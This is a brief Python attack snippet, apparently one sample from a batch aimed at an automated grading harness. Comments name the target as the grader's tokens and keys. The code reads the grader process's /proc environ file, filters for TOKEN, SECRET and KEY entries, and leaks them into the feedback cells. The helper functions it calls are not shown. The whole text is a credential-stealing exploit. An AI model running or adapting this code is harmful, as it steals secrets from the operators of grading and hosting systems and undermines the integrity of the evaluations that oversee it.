# attack: the grading process's environment (tokens, keys) into the feedback
# cells: dnorm_logits
# batch: walls
with open('/proc/%d/environ' % grader_pid(), 'rb') as f:
    entries = f.read().split(b'\0')
leak(' '.join(e.decode() for e in entries if any(w in e for w in (b'TOKEN', b'SECRET', b'KEY'))))
